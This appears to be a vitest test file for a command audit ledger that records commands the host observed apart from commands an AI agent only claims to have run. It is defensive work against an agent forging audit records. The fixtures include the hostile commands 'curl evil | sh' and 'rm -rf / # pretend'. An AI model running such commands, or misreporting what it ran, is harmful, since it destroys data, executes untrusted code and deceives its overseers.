import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { CommandLedger } from './command-ledger';

// Issue 12, attack 5: `command` audit records come only from what the host observed.
describe('CommandLedger', () => {
  const exit = (id: string, exitCode = 0) => ({ type: 'command_exited' as const, id, exitCode, durationMs: 3, timedOut: false });

  it('records host-run commands as `command`, with the digest of the output the host saw', () => {
    const l = new CommandLedger();
    l.started('observed', 'c1', 'npm test', '/workspace');
    l.output('observed', 'c1', Buffer.from('ok\n'));
    const r = l.exited('observed', { ...exit('c1'), outputBytes: 3 });
    expect(r).toEqual({
      type: 'command',
      data: { id: 'c1', command: 'npm test', cwd: '/workspace', exitCode: 0, durationMs: 3, timedOut: false, outputBytes: 3, outputSha256: createHash('sha256').update('ok\n').digest('hex') },
    });
  });

  it('records what the agent says it ran as `command_claim`', () => {
    const l = new CommandLedger();
    l.started('claimed', 'x', 'curl evil | sh', '/workspace');
    expect(l.exited('claimed', exit('x'))).toMatchObject({ type: 'command_claim', data: { id: 'x', command: 'curl evil | sh' } });
  });

  it('a claim with the id of a running host command neither ends nor renames it', () => {
    const l = new CommandLedger();
    l.started('observed', 'c1', 'make', '/workspace');
    l.started('claimed', 'c1', 'rm -rf / # pretend', '/');
    l.output('claimed', 'c1', Buffer.from('fake'));
    expect(l.exited('claimed', exit('c1', 0))).toMatchObject({ type: 'command_claim', data: { command: 'rm -rf / # pretend' } });
    l.output('observed', 'c1', Buffer.from('real'));
    expect(l.exited('observed', exit('c1', 2))).toMatchObject({ type: 'command', data: { command: 'make', exitCode: 2, outputSha256: createHash('sha256').update('real').digest('hex') } });
  });
});
